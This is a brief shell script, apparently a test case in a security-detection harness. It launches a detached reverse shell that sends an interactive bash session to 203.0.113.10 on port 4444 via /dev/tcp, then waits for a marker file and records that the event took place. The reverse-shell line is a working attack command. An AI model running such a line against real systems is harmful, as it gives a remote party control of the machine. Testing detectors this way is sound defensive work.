#!/bin/sh
. /opt/case/case.sh

env -i TERM=xterm setsid bash -c 'exec bash -l >/dev/tcp/203.0.113.10/4444 2>&1 0>&1' &
wait_for /tmp/reached
took_place
